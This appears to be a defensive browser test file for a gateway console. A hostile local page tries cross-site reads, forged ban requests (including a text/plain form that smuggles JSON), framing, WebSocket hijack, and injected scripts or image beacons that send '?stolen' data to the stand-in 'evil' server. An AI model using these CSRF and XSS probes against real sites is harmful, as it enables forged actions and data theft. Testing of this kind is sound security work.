// Another site, open in the owner's browser: what it can make the browser do to the gateway (R23). And what
// text that got into our own page could do there.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { ensureOwner, launch, open, signIn, url } from "./browser.mjs";

let browser;
let context;
let page;
let evil;
let evilUrl;
before(async () => {
  browser = await launch();
  await ensureOwner(browser);
  evil = createServer((request, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end("<!doctype html><title>another site</title><h1>Win a prize</h1>");
  });
  await new Promise((done) => evil.listen(0, "127.0.0.1", done));
  // Same site for cookies (the port does not count), another origin: the harder case.
  evilUrl = `http://localhost:${evil.address().port}`;
  ({ context, page } = await open(browser));
  await signIn(page);
});
after(async () => {
  await context.close();
  await browser.close();
  evil.close();
});

async function onEvilPage() {
  const hostile = await context.newPage();
  await hostile.goto(evilUrl);
  return hostile;
}
const banned = (address) => page.evaluate(async (who) => (await (await fetch("/security/api/data")).json()).data.bans.some((ban) => ban.network === who), address);

test("R23 reads nothing, with or without the owner's cookie", async () => {
  const hostile = await onEvilPage();
  for (const path of ["/security/api/data", "/auth/session", "/auth/csrf-token", "/api/v1/openapi.json", "/health/status"]) {
    for (const credentials of ["include", "omit"]) {
      const read = await hostile.evaluate(([where, how]) => fetch(where, { credentials: how }).then((reply) => reply.text(), () => "blocked"), [url + path, credentials]);
      assert.equal(read, "blocked", path);
    }
  }
  await hostile.close();
});

test("R23 changes nothing: neither by fetch, nor by beacon, nor by form", async () => {
  const hostile = await onEvilPage();
  const wish = JSON.stringify({ ip_address: "203.0.113.200", reason: "forged", duration_hours: 24, permanent: false, confirm: true });
  for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded"]) {
    await hostile.evaluate(([where, body, contentType]) =>
      fetch(where, { method: "POST", credentials: "include", mode: contentType === "application/json" ? "cors" : "no-cors", headers: { "Content-Type": contentType }, body })
        .then(() => "sent", () => "blocked"), [`${url}/security/ban`, wish, type]);
  }
  await hostile.evaluate(([where, body]) => navigator.sendBeacon(where, body), [`${url}/security/ban`, wish]);
  const answered = hostile.waitForResponse(`${url}/security/ban`);
  await hostile.evaluate(([where, body]) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: where, enctype: "text/plain" });
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ',"x":"';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    form.submit();
  }, [`${url}/security/ban`, wish]);
  assert.ok([403, 415].includes((await answered).status()));
  assert.equal(await banned("203.0.113.200"), false);
  await hostile.close();
});

test("R23 cannot put the console into a frame", async () => {
  const hostile = await onEvilPage();
  await hostile.evaluate((where) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = where;
    frame.addEventListener("load", done);
    document.body.append(frame);
  }), `${url}/login`);
  const frame = hostile.frames().find((candidate) => candidate !== hostile.mainFrame());
  assert.doesNotMatch(await frame.content().catch(() => ""), /<div id="app"|Kavach/);
  await hostile.close();
});

test("R23 opens no WebSocket in the owner's name", async () => {
  const hostile = await onEvilPage();
  const opened = await hostile.evaluate((where) => new Promise((done) => {
    const socket = new WebSocket(where);
    socket.addEventListener("open", () => done(true));
    socket.addEventListener("error", () => done(false));
  }), `${url.replace("http", "ws")}/ws`);
  assert.equal(opened, false);
  await hostile.close();
});

test("R23 a window it opens on the console is out of its reach", async () => {
  const hostile = await onEvilPage();
  const reach = await hostile.evaluate(async (where) => {
    const opened = window.open(where);
    await new Promise((done) => setTimeout(done, 1000));
    try {
      return opened === null || opened.closed ? "severed" : String(opened.location.href);
    } catch {
      return "refused";
    }
  }, `${url}/dashboard`);
  assert.match(reach, /severed|refused/);
  await hostile.close();
});

test("R23 markup that got into our page runs nothing and sends nothing away", async () => {
  await page.goto(`${url}/dashboard`);
  await page.locator("main h1").waitFor();
  const outcome = await page.evaluate(async (away) => {
    const tried = {};
    const attempt = async (name, act) => {
      try {
        tried[name] = await act();
      } catch (refused) {
        tried[name] = "refused";
      }
    };
    window.ran = [];
    // What runs in the debugger's own turn may evaluate; what the page runs later may not.
    await new Promise((done) => setTimeout(done, 0));
    await attempt("eval", () => (0, eval)("window.ran.push('eval'), 'ran'"));
    await attempt("function", () => new Function("window.ran.push('function'); return 'ran'")());
    await attempt("timer", () => { setTimeout("window.ran.push('timer')", 0); return "set"; });
    await attempt("markup", () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"window.ran.push('markup')\">"); return "inserted"; });
    const element = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
    await attempt("inline", () => element("script", { textContent: "window.ran.push('inline')" }));
    await attempt("foreign", () => element("script", { src: `${away}/x.js` }));
    await attempt("frame", () => element("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" }));
    await attempt("fetch", () => fetch(away, { mode: "no-cors" }).then(() => "sent"));
    await attempt("image", () => new Promise((done) => element("img", { src: `${away}/?stolen`, onload: () => done("sent"), onerror: () => done("refused") })));
    await attempt("base", () => { document.head.append(Object.assign(document.createElement("base"), { href: away })); return new URL("x", document.baseURI).href.startsWith(away) ? "moved" : "refused"; });
    await new Promise((done) => setTimeout(done, 300));
    return { tried, ran: window.ran };
  }, evilUrl);
  assert.deepEqual(outcome.ran, []);
  for (const name of ["eval", "function", "fetch", "image", "base", "markup"]) assert.equal(outcome.tried[name], "refused", name);
});
